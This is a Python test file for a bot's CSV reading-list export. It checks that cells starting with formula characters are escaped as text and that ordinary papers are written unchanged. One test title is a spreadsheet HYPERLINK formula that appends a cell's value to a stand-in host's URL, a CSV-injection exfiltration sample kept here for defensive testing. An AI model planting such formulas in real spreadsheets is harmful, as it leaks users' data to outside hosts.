"""The CSV reading list opens in a spreadsheet as text: a feed's title never runs as a formula."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

from bot.domain.paper import Paper
from bot.services.export import CSV_COLUMNS, reading_list_csv

SAVED_AT = datetime(2026, 11, 30, 9, 30, tzinfo=UTC)


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_cells_that_a_spreadsheet_would_evaluate_are_quoted_as_text() -> None:
    hostile = Paper(
        arxiv_id="2411.00001",
        title='=HYPERLINK("http://example.invalid/?"&A1,"Click")',
        authors=("@SUM(1+1)", "+Ada Lovelace"),
    )
    dash = Paper(arxiv_id="2411.00002", title="-1 is a number, and a formula")
    (first, second) = rows(reading_list_csv([(hostile, SAVED_AT), (dash, SAVED_AT)]))
    assert first["title"] == "'" + hostile.title
    assert first["authors"] == "'@SUM(1+1); +Ada Lovelace"  # the cell starts with @; the rest is text
    assert second["title"] == "'-1 is a number, and a formula"
    for row in (first, second):
        assert not any(value.startswith(("=", "+", "-", "@")) for value in row.values())


def test_ordinary_papers_are_written_unchanged() -> None:
    paper = Paper(
        arxiv_id="2411.18365",
        title="GPT as ghostwriter at the White House",
        authors=("Jane Doe", "John Roe"),
        published_at=datetime(2024, 11, 27, 20, 0, tzinfo=UTC),
    )
    text = reading_list_csv([(paper, SAVED_AT)])
    assert text.splitlines()[0] == ",".join(CSV_COLUMNS)
    (row,) = rows(text)
    assert row == {
        "id": "2411.18365",
        "title": "GPT as ghostwriter at the White House",
        "authors": "Jane Doe; John Roe",
        "published": "2024-11-27",
        "url": "https://arxiv.org/abs/2411.18365",
        "saved_at": "2026-11-30T09:30:00+00:00",
    }
